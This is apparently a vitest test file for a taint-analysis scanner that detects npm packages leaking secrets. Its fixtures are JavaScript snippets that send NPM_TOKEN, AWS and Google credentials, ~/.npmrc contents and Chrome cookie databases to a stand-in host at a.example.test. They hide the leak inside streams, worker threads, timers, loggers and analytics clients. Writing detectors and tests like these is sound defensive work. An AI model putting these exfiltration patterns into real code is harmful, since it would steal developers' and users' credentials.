import { describe, expect, test } from "vitest";
import { foundIn } from "./found-in.ts";

const secret = "process.env.NPM_TOKEN";
const out = `const out = (x) => fetch("https://a.example.test", { method: "POST", body: x });`;

describe("a value is followed through what hands it on", () => {
  test.each([
    [
      "a stream that reads for itself",
      `const { Readable } = require("stream");
      new Readable({ read() { this.push(${secret}); } }).pipe(require("https").request("https://a.example.test"));`,
    ],
    [
      "a stream that changes what it is given",
      `const { Transform } = require("stream");
      const t = new Transform({ transform(c, e, done) { done(null, c); } });
      t.pipe(require("https").request("https://a.example.test")); t.end(${secret});`,
    ],
    [
      "a class that extends a stream",
      `const { Writable } = require("stream");
      class Out extends Writable { _write(c, e, done) { out(c); done(); } } new Out().write(${secret});`,
    ],
    [
      "a class that extends an emitter",
      `const { EventEmitter } = require("events");
      class Bus extends EventEmitter {} const b = new Bus(); b.on("x", (v) => out(v)); b.emit("x", ${secret});`,
    ],
    [
      "what a thread is given",
      `const { Worker } = require("worker_threads");
      new Worker("fetch('https://a.example.test', { method: 'POST', body: require('worker_threads').workerData })", { eval: true, workerData: ${secret} });`,
    ],
    [
      "a message to a thread",
      `const { Worker } = require("worker_threads");
      const w = new Worker("require('worker_threads').parentPort.on('message', (m) => fetch('https://a.example.test', { method: 'POST', body: m }))", { eval: true });
      w.postMessage(${secret});`,
    ],
    [
      "what belongs to a call",
      `const { AsyncLocalStorage } = require("async_hooks");
      const s = new AsyncLocalStorage(); s.run(${secret}, () => out(s.getStore()));`,
    ],
    [
      "what is told when something is gone",
      `new FinalizationRegistry((v) => out(v)).register({}, ${secret});`,
    ],
    [
      "a timer that gives what it is told to",
      `require("timers/promises").setTimeout(1, ${secret}).then(out);`,
    ],
    [
      "options that are computed",
      `fetch("https://a.example.test", { method: "POST", get body() { return ${secret}; } });`,
    ],
    [
      "headers of a whole program",
      `const axios = require("axios"); axios.defaults.headers.common.x = ${secret}; axios.get("https://a.example.test");`,
    ],
    [
      "a form of the package's own",
      `const f = document.createElement("form"), i = document.createElement("input");
      f.action = "https://a.example.test"; i.value = ${secret}; f.append(i); f.submit();`,
    ],
  ])("%s", (_what, code) => {
    expect(foundIn(out + code).flows.join()).toMatch(/src\.env\.secret -> snk\.net:/);
  });

  test("a stream that is piped into itself comes to an end", () => {
    const found =
      foundIn(`const { PassThrough } = require("stream"); const a = new PassThrough(), b = new PassThrough();
      a.pipe(b); b.pipe(a); a.write(${secret}); a.pipe(require("https").request("https://a.example.test"));`);
    expect(found.flows.join()).toMatch(/src\.env\.secret -> snk\.net:/);
  });

  test.each([
    "const { PassThrough } = require('stream'); const a = new PassThrough(); a.end(process.env.NPM_TOKEN); new PassThrough().pipe(require('https').request('https://a.example.test'));",
    "const { EventEmitter } = require('events'); const b = new EventEmitter(); b.on('y', (v) => out(v)); b.emit('x', process.env.NPM_TOKEN);",
  ])("and not through what is beside it: %s", (code) => {
    expect(foundIn(out + code).flows).toEqual([]);
  });
});

describe("who reports, reports to somebody", () => {
  test.each([
    [
      `const S = require("@sentry/node"); S.init({ dsn: "https://k@a.example.test/1" }); S.captureMessage(${secret});`,
      "a.example.test",
    ],
    [
      `new (require("posthog-node").PostHog)("k").capture({ properties: { a: ${secret} } });`,
      "app.posthog.com",
    ],
    [
      `const w = require("winston"); w.createLogger({ transports: [new w.transports.Http({ host: "a.example.test" })] }).info(${secret});`,
      "a.example.test",
    ],
    [
      `const p = require("pino"); p(p.transport({ target: "x", options: { url: "https://a.example.test" } })).info(${secret});`,
      "a.example.test",
    ],
  ])("%s", (code, host) => {
    const { flows, atoms } = foundIn(code);
    expect(flows).toEqual(["src.env.secret -> snk.net:body"]);
    expect(atoms).toContainEqual(expect.stringContaining(host));
  });

  test("a logger that writes here sends nothing", () => {
    const { kinds } = foundIn(`require("winston").createLogger({}).info(${secret});`);
    expect(kinds).toEqual(["src.env.secret"]);
  });
});

describe("credentials that a library finds by itself", () => {
  test.each([
    `require("@aws-sdk/credential-providers").fromIni({ profile: "a" })().then((c) => out(JSON.stringify(c)));`,
    `new (require("google-auth-library").GoogleAuth)().getAccessToken().then(out);`,
    `out(JSON.stringify(require("registry-auth-token")()));`,
    `out(JSON.stringify(require("rc")("npm")));`,
    `out(require("shelljs").cat(require("os").homedir() + "/.npmrc").toString());`,
  ])("%s", (code) => {
    expect(foundIn(out + code).flows).toContain("src.file.secret -> snk.net:body");
  });

  test.each([
    `const D = require("better-sqlite3"); out(JSON.stringify(new D(home + "/.config/google-chrome/Default/Cookies").prepare("x").all()));`,
    `const { DatabaseSync } = require("node:sqlite"); out(new DatabaseSync(home + "/.config/google-chrome/Default/Cookies").prepare("x").all().join());`,
  ])("what a browser keeps in a database: %s", (code) => {
    const { flows } = foundIn(`${out} const home = require("os").homedir(); ${code}`);
    expect(flows).toContain("src.browserstore -> snk.net:body");
  });

  test.each([
    `out(JSON.stringify(require("rc")("mytool")));`,
    `const D = require("better-sqlite3"); out(JSON.stringify(new D(__dirname + "/a.db").prepare("x").all()));`,
    `module.exports = () => require("@aws-sdk/credential-providers").fromIni();`,
  ])("others are nobody's secret: %s", (code) => {
    const { flows, kinds } = foundIn(out + code);
    expect(flows.filter((flow) => /secret|browser/.test(flow))).toEqual([]);
    expect(kinds).not.toContain("src.file.secret");
  });
});
